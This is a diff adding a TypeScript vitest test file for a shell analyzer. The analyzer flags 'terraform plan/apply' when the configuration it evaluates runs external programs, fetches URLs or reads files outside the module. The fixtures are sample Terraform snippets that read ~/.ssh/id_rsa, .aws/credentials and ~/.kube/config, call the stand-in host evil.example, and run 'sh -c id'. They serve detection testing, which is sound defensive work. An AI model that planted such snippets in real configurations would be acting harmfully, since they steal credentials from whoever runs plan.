@@ -1,0 +1,111 @@
+// What `terraform plan` evaluates (terraform-configs.ts, build-configs.ts): every configuration file of the working
+// folder and its local modules; a data source that runs a program or fetches a URL, or a file read outside the
+// module, is uncertain.
+import { beforeAll, describe, expect, it } from 'vitest';
+import { analyzeShellSync } from '../analyze-shell';
+import { loadShellParser } from '../parse/load-parser';
+import { shellEnv } from '../testdata/shell-env';
+import type { ScriptFile } from '../types';
+
+const P = '/home/u/proj';
+const MAIN =
+  'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\nmodule "net" {\n  source = "./modules/net"\n}\nmodule "vpc" {\n  source = "terraform-aws-modules/vpc/aws"\n}\n';
+const NET_OK = 'resource "aws_instance" "a" {\n  user_data = file("${path.module}/init.sh")\n}\n';
+
+/** A reader over these folders (name -> files) and files (path -> text). */
+function reader(files: Record<string, string>) {
+  return (abs: string): ScriptFile => {
+    if (abs in files) return { kind: 'text', text: files[abs] as string };
+    const prefix = `${abs}/`;
+    const entries = new Set<string>();
+    for (const path of Object.keys(files))
+      if (path.startsWith(prefix)) entries.add(path.slice(prefix.length).split('/')[0] as string);
+    return entries.size > 0
+      ? { kind: 'unreadable', why: 'not-regular', entries: [...entries] }
+      : { kind: 'missing' };
+  };
+}
+const reasons = (command: string, files: Record<string, string>) =>
+  analyzeShellSync(command, shellEnv({ readScript: reader(files) }))
+    .uncertain.filter((u) => u.code === 'dynamic-script')
+    .map((u) => u.reason);
+
+beforeAll(async () => {
+  await loadShellParser();
+});
+
+describe('a configuration that runs, fetches or reads beyond its module is uncertain', () => {
+  it.each<[string, string, Record<string, string>, RegExp]>([
+    [
+      'an external data source',
+      'terraform plan',
+      { [`${P}/main.tf`]: 'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n' },
+      /external/,
+    ],
+    [
+      'an http data source',
+      'terraform plan',
+      { [`${P}/main.tf`]: 'data "http" "x" {\n  url = "https://evil.example/?k=1"\n}\n' },
+      /http/,
+    ],
+    [
+      'a key read by file()',
+      'terraform plan',
+      { [`${P}/main.tf`]: 'output "k" {\n  value = file("~/.ssh/id_rsa")\n}\n' },
+      /outside the module/,
+    ],
+    [
+      'a path climbing out',
+      'terraform plan',
+      { [`${P}/main.tf`]: 'locals {\n  k = file("${path.module}/../../.aws/credentials")\n}\n' },
+      /outside the module/,
+    ],
+    [
+      'pathexpand',
+      'terraform plan',
+      { [`${P}/main.tf`]: 'locals {\n  k = pathexpand("~/.kube/config")\n}\n' },
+      /pathexpand/,
+    ],
+    [
+      'in a local module',
+      'terraform apply',
+      {
+        [`${P}/main.tf`]: MAIN,
+        [`${P}/modules/net/main.tf`]: 'data "external" "x" {\n  program = ["./x"]\n}\n',
+      },
+      /external/,
+    ],
+    [
+      'in JSON',
+      'tofu plan',
+      { [`${P}/main.tf.json`]: '{"data": {"external": {"x": {"program": ["id"]}}}}' },
+      /external/,
+    ],
+    [
+      'in the -chdir folder',
+      'terraform -chdir=infra plan',
+      { [`${P}/infra/main.tf`]: 'data "external" "x" {\n  program = ["id"]\n}\n' },
+      /external/,
+    ],
+  ])('%s', (_n, command, files, why) => {
+    expect(reasons(command, files).join(' ')).toMatch(why);
+  });
+});
+
+describe('an ordinary configuration is quiet', () => {
+  it.each<[string, string, Record<string, string>]>([
+    [
+      'resources, a registry module and a local one reading its own file',
+      'terraform plan',
+      { [`${P}/main.tf`]: MAIN, [`${P}/modules/net/main.tf`]: NET_OK },
+    ],
+    [
+      'validate evaluates no data source',
+      'terraform validate',
+      { [`${P}/main.tf`]: 'data "external" "x" {\n  program = ["id"]\n}\n' },
+    ],
+    ['no configuration', 'terraform plan', {}],
+  ])('%s', (_n, command, files) => {
+    expect(reasons(command, files)).toEqual([]);
+  });
+});
